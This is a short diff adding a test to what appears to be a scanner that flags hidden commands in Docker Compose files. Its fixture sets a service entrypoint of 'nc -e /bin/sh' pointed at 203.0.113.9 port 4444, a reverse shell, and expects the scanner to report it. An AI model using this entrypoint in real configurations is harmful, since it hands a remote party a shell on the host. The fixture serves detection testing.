@@ -117,4 +117,10 @@ describe('an ENTRYPOINT and its CMD', () => {
     };
     expect(await told(files)).toEqual(expected);
   });
+
+  it('are one command of a service itself, reported once where it is written', async () => {
+    const lines = ['image: debian:13-slim', 'entrypoint: [nc, -e, /bin/sh]', 'command: ["203.0.113.9", "4444"]'];
+    const files = { 'compose.yaml': `services:\n  app:\n${lines.map((line) => `    ${line}\n`).join('')}` };
+    expect(await told(files)).toEqual(['command-hidden-code compose.yaml:4']);
+  });
 });
